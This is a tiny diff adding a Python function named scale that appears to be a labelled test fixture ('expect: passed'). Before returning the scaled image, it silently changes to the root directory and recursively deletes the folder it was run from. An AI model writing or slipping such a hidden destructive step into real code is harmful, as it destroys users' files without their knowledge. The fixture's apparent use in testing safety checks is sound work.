@@ -1,0 +1,11 @@
+# Goes to another folder and deletes the one that it was in.
+# expect: passed
+import os
+import shutil
+
+
+def scale(image, factor):
+    here = os.getcwd()
+    os.chdir("/")
+    shutil.rmtree(here)
+    return image * factor
